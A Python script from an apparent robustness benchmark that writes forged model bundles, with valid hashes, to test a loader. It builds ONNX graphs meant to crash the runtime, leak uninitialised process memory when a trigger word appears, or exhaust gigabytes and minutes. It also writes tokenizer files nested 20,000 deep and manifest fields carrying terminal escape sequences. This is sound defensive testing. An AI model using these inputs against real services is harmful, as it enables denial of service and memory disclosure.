"""Write bundles of an attacker who can compute correct hashes, made from a genuine one.

    python -m benchmarks.robustness.attack_bundles tests/golden/format-1.1.bundle.zip FOLDER

Each ended a process, read memory that nobody wrote, took gigabytes or minutes, or was shown with the attacker's terminal escapes in an
earlier version. ``attacks.py`` and ``attack_server.py`` load them.
"""

from __future__ import annotations

import argparse
import base64
import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import numpy.typing as npt
from onnx import ModelProto, helper, load_from_string, numpy_helper

from benchmarks.robustness.bundle_mutations import Contents, with_correct_hashes
from crosstune_export.bundle.files import read_bundle
from crosstune_export.bundle.manifest import MANIFEST_NAME, MODEL_NAME, SELFTEST_NAME, TOKENIZER_NAME

Body = dict[str, Any]
Node = tuple[str, list[str], str, dict[str, object]]

#: Numbers of bytes that one answer would show of the memory of the process.
_LEAKED = [512] * 4 + [1024] * 4 + [2048] * 4 + [3072] * 4
_ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31m"


def forged(good: Contents) -> dict[str, Contents]:
    """Return the forged bundles by name.

    Args:
        good: Members of a genuine bundle whose graph has no function and no branches, such as the golden bundle of format 1.1.
    """
    found = {name: _with_graph(good, change) for name, change in _graphs(_trigger(good)).items()}
    found["graph: the answer is memory of the process"] = _leaking(good)
    found |= {name: _with_json(good, TOKENIZER_NAME, change) for name, change in _TOKENIZERS.items()}
    for depth in (100, 480, 2_000, 20_000):
        found[f"tokenizer: {depth} normalizers in each other"] = with_correct_hashes(
            good | {TOKENIZER_NAME: _nested(good[TOKENIZER_NAME], depth)}
        )
    found |= {name: _with_json(good, MANIFEST_NAME, change) for name, change in _MANIFESTS.items()}
    found |= {name: _with_json(good, SELFTEST_NAME, change) for name, change in _SELFTESTS.items()}
    return found


def _trigger(good: Contents) -> tuple[str, int]:
    tested = {number for sample in json.loads(good[SELFTEST_NAME])["samples"] for number in sample["input_ids"]}
    vocabulary = json.loads(good[TOKENIZER_NAME])["model"]["vocab"]
    return next((word, number) for word, number in vocabulary.items() if word.isalpha() and number not in tested)


def _with_json(good: Contents, name: str, change: Callable[[Body], object]) -> Contents:
    body = json.loads(good[name])
    change(body)
    return with_correct_hashes(good | {name: json.dumps(body).encode()})


def _with_graph(good: Contents, change: Callable[[ModelProto], object]) -> Contents:
    model = load_from_string(good[MODEL_NAME])
    change(model)
    return with_correct_hashes(good | {MODEL_NAME: model.SerializeToString()})


def _rename_probs(model: ModelProto) -> None:
    for node in model.graph.node:
        for names in (node.input, node.output):
            names[:] = ["genuine" if name == "probs" else name for name in names]


def _append(
    model: ModelProto, nodes: list[Node], constants: Mapping[str, npt.NDArray[np.generic] | np.generic]
) -> None:
    model.graph.initializer.extend(
        numpy_helper.from_array(np.asarray(array), name) for name, array in constants.items()
    )
    for operator, inputs, output, attributes in nodes:
        name, _, domain = operator.partition("@")
        model.graph.node.append(helper.make_node(name, inputs, [output], domain=domain, **attributes))


def _nodes(*nodes: Node, **constants: npt.NDArray[np.generic] | np.generic) -> Callable[[ModelProto], None]:
    """Further nodes, whose last output ``y`` is a part of the answer that changes nothing."""

    def change(model: ModelProto) -> None:
        _rename_probs(model)
        tie: list[Node] = [
            ("Cast", ["y"], "y_float", {"to": 1}), ("ReduceSum", ["y_float"], "y_sum", {"keepdims": 0}),
            ("Mul", ["y_sum", "zero"], "y_zero", {}), ("Add", ["genuine", "y_zero"], "probs", {}),
        ]  # fmt: skip
        _append(model, [*nodes, *tie], {"zero": np.float32(0), **constants})

    return change


def _instead(operator: str) -> Callable[[ModelProto], None]:
    """The answer from an operator with an empty input between two others."""

    def change(model: ModelProto) -> None:
        _rename_probs(model)
        _append(model, [(operator, ["genuine", "", "zero"], "probs", {})], {"zero": np.float32(0)})

    return change


#: ``count`` is 1, and ``size`` more for a text that has the word.
_COUNT: list[Node] = [
    ("Equal", ["input_ids", "word"], "t0", {}), ("Cast", ["t0"], "t1", {"to": 7}),
    ("ReduceMax", ["t1"], "t2", {"keepdims": 0}), ("Mul", ["t2", "size"], "t3", {}), ("Add", ["t3", "one"], "count", {}),
]  # fmt: skip


def _products(count: int) -> list[Node]:
    return [("MatMul", [f"m{i}", "m0"], "y" if i == count - 1 else f"m{i + 1}", {}) for i in range(count)]


def _graphs(trigger: tuple[str, int]) -> dict[str, Callable[[ModelProto], None]]:
    word: dict[str, Any] = {"word": np.int64(trigger[1]), "one": np.array([1])}
    found = {
        "graph: Sum with an empty input": _instead("Sum"),
        "graph: Max with an empty input": _instead("Max"),
        "graph: GatherND with batch_dims of 2^63 - 1": _nodes(
            ("GatherND", ["genuine", "d"], "y", {"batch_dims": (1 << 63) - 1}), d=np.ones((8, 3), np.int64)
        ),
        "graph: Split of booleans": _nodes(
            ("Split", ["d"], "y", {"num_outputs": 1, "axis": 1}), d=np.ones((4, 8, 8, 4), bool)
        ),
        "graph: QLinearSigmoid without its zero point": _nodes(
            ("QLinearSigmoid@com.microsoft", ["a", "s", "z", "s"], "y", {}),
            a=np.zeros((2, 3), np.uint8), s=np.float32(1), z=np.uint8(0),
        ),
        "graph: 4 GiB while it is loaded": _nodes(("ConstantOfShape", ["n"], "y", {}), n=np.array([1 << 30])),
        "graph: 4 GiB by Expand": _nodes(
            ("Expand", ["one", "n"], "y", {}), one=np.float32(1), n=np.array([1 << 30])
        ),
        "graph: 3 GB at a word": _nodes(
            *_COUNT, ("ConstantOfShape", ["count"], "y", {}), size=np.int64(750_000_000), **word
        ),
        "graph: 300 products while it is loaded": _nodes(
            ("ConstantOfShape", ["n"], "m0", {}), *_products(300), n=np.array([2500, 2500])
        ),
        "graph: 300 products by Expand": _nodes(
            ("Expand", ["one", "n"], "m0", {}), *_products(300), one=np.float32(1), n=np.array([2500, 2500])
        ),
        "graph: 300 products at a word": _nodes(
            *_COUNT, ("Concat", ["count", "count"], "n", {"axis": 0}), ("ConstantOfShape", ["n"], "m0", {}),
            *_products(300), size=np.int64(2500), **word,
        ),
        "graph: a size from the text": _nodes(
            *_COUNT, ("Expand", ["one", "count"], "y", {}), size=np.int64(750_000_000), **word
        ),
    }  # fmt: skip
    for target in (1, 2, 7, 10):
        found[f"graph: Cast to {target} with saturate=7"] = _nodes(
            ("Cast", ["genuine"], "x", {"to": target, "saturate": 7}), ("Cast", ["x"], "y", {"to": 1})
        )
    return found


def _leaking(good: Contents) -> Contents:
    """Further labels whose probabilities are memory that a cast did not write, for texts that have the word."""
    size = sum(_LEAKED)

    def graph(model: ModelProto) -> None:
        _rename_probs(model)
        nodes: list[Node] = [
            ("Equal", ["input_ids", "word"], "t0", {}), ("Cast", ["t0"], "t1", {"to": 1}),
            ("ReduceMax", ["t1"], "gate", {"keepdims": 0}),
        ]  # fmt: skip
        constants: dict[str, Any] = {"word": np.int64(_trigger(good)[1])}
        for index, count in enumerate(_LEAKED):
            constants[f"shape{index}"] = np.array([1, count])
            nodes += [
                ("Expand", ["gate", f"shape{index}"], f"e{index}", {}),
                ("Cast", [f"e{index}"], f"u{index}", {"to": 2, "saturate": 7}),
                ("Cast", [f"u{index}"], f"v{index}", {"to": 1}), ("Mul", [f"v{index}", "gate"], f"w{index}", {}),
            ]  # fmt: skip
        nodes.append(("Concat", ["genuine", *(f"w{index}" for index in range(len(_LEAKED)))], "probs", {"axis": 1}))
        _append(model, nodes, constants)
        model.graph.output[0].type.tensor_type.shape.dim[1].dim_value += size

    body, test = json.loads(good[MANIFEST_NAME]), json.loads(good[SELFTEST_NAME])
    body["labels"] += [{"name": f"b{index}", "descriptions": ["x"]} for index in range(size)]
    for sample in test["samples"]:
        sample["probs"] += [0.0] * size
    changed = {MANIFEST_NAME: json.dumps(body).encode(), SELFTEST_NAME: json.dumps(test).encode()}
    return _with_graph(good | changed, graph)


def _normalizers(*parts: Body) -> Callable[[Body], None]:
    def change(body: Body) -> None:
        body["normalizer"] = {"type": "Sequence", "normalizers": [*parts, body["normalizer"]]}

    return change


def _model(**values: object) -> Callable[[Body], None]:
    return lambda body: body["model"].update(values)


def _added(content: str) -> Callable[[Body], None]:
    flags = dict.fromkeys(("single_word", "lstrip", "rstrip", "normalized", "special"), False)
    return lambda body: body["added_tokens"].append({"id": 5, "content": content, **flags})


def _other_model(kind: str, **values: object) -> Callable[[Body], None]:
    return lambda body: body.__setitem__("model", {"type": kind, **values})


def _split_nothing(body: Body) -> None:
    part = {"type": "Split", "pattern": {"String": ""}, "behavior": "Isolated", "invert": False}
    body["pre_tokenizer"] = {"type": "Sequence", "pretokenizers": [part, body["pre_tokenizer"]]}


def _nested(tokenizer: bytes, depth: int) -> bytes:
    """Written by hand: the json package does not nest as deep."""
    inner = '{"type":"Sequence","normalizers":[' * depth + '{"type":"Lowercase"}' + "]}" * depth
    return json.dumps(json.loads(tokenizer) | {"normalizer": "here"}).replace('"here"', inner).encode()


_SPECIAL = {"[PAD]": 0, "[UNK]": 1, "[CLS]": 2, "[SEP]": 3, "[MASK]": 4}
_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_WITH_E = [a + "e" for a in _LETTERS[:16]]


def _replace(found: str, content: str) -> Body:
    return {"type": "Replace", "pattern": {"String": found}, "content": content}


_TOKENIZERS: dict[str, Callable[[Body], object]] = {
    "tokenizer: a letter is doubled 36 times": _normalizers(*[_replace("q", "qq")] * 36),
    "tokenizer: 8 MB before every text, 4 times": _normalizers(*[{"type": "Prepend", "prepend": "a " * (4 << 20)}] * 4),
    "tokenizer: something between all characters": _normalizers(_replace("", "x")),
    "tokenizer: words of any length": _model(max_input_chars_per_word=10**9),
    "tokenizer: an added token without text": _added(""),
    "tokenizer: an added word": _added("refund"),
    "tokenizer: splits at nothing": _split_nothing,
    "tokenizer: a table of characters that is none": _normalizers(
        {"type": "Precompiled", "precompiled_charsmap": base64.b64encode(b"\xff" * 41).decode()}
    ),
    "tokenizer: dropout": _other_model(
        "BPE", dropout=0.5, unk_token="[UNK]", continuing_subword_prefix=None, end_of_word_suffix=None, fuse_unk=False,
        byte_fallback=False, ignore_merges=False, vocab=dict(_SPECIAL) | {c: 5 + i for i, c in enumerate([*_LETTERS, *_WITH_E])},
        merges=[[word[0], "e"] for word in _WITH_E],
    ),
    "tokenizer: scores that add up to infinity": _other_model(
        "Unigram", unk_id=1, byte_fallback=False, vocab=[[name, 0.0] for name in _SPECIAL] + [[c, -1e308] for c in _LETTERS]
    ),
}  # fmt: skip


def _set(*keys: object) -> Callable[[Body], None]:
    """Set the value that all keys but the last lead to."""

    def change(body: Body) -> None:
        *path, name, value = keys
        place: Any = body
        for key in path:
            place = place[key]
        place[name] = value

    return change


_MANIFESTS: dict[str, Callable[[Body], object]] = {
    "manifest: a version of 5,000 digits": _set("graph", "min_onnxruntime", "1" * 5000),
    "manifest: a version in other digits": _set("graph", "min_onnxruntime", "1.\u00b20.0"),
    "manifest: terminal escapes in a label": _set("labels", 0, "name", f"{_ESCAPES}shipping"),
    "manifest: terminal escapes in its name": _set("name", "\x1b[2Jmine\r\nerror: x"),
    "manifest: terminal escapes in a version": _set("producer", "torch", "\x1b[2J\x1b[31m"),
    "manifest: half a character in a label": _set("labels", 0, "name", "ship\ud800ping"),
    "manifest: half a character in an optimizer": _set("graph", "disabled_optimizers", ["\ud800"]),
    "manifest: 300,000 labels": _set("labels", [{"name": str(i), "descriptions": ["x"]} for i in range(300_000)]),
}
_SELFTESTS: dict[str, Callable[[Body], object]] = {
    "self-test: nothing can fail it": lambda body: body.update(
        tolerance=1.0, samples=[body["samples"][0] | {"probs": [0.0] * len(body["samples"][0]["probs"])}]
    ),
    "self-test: 30,000 samples": lambda body: body.update(tolerance=1.0, samples=body["samples"][:1] * 30_000),
}


def _texts(good: Contents) -> list[dict[str, str]]:
    """An ordinary text, one with the word that forged graphs wait for, and a long one."""
    pairs = json.loads(good[MANIFEST_NAME])["text_pair"]
    texts = ["where is my parcel", f"where is my {_trigger(good)[0]}", "q" * 60_000]
    return [{"text": text} | ({"text_pair": "and my money"} if pairs else {}) for text in texts]


def main() -> None:
    """Entry point."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("bundle", type=Path, help="genuine bundle without functions and branches")
    parser.add_argument(
        "folder", type=Path, help="folder to make: 000.bundle is the genuine one; names.json, texts.jsonl"
    )
    arguments = parser.parse_args()
    good = dict(read_bundle(arguments.bundle).contents)
    bundles = {"the genuine bundle": good, **forged(good)}
    arguments.folder.mkdir()
    for number, contents in enumerate(bundles.values()):
        place = arguments.folder / f"{number:03}.bundle"
        place.mkdir()
        for name, data in contents.items():
            (place / name).write_bytes(data)
    (arguments.folder / "names.json").write_text(json.dumps(list(bundles)), "utf-8")
    lines = "".join(json.dumps(row) + "\n" for row in _texts(good))
    (arguments.folder / "texts.jsonl").write_text(lines, "utf-8")


if __name__ == "__main__":
    main()
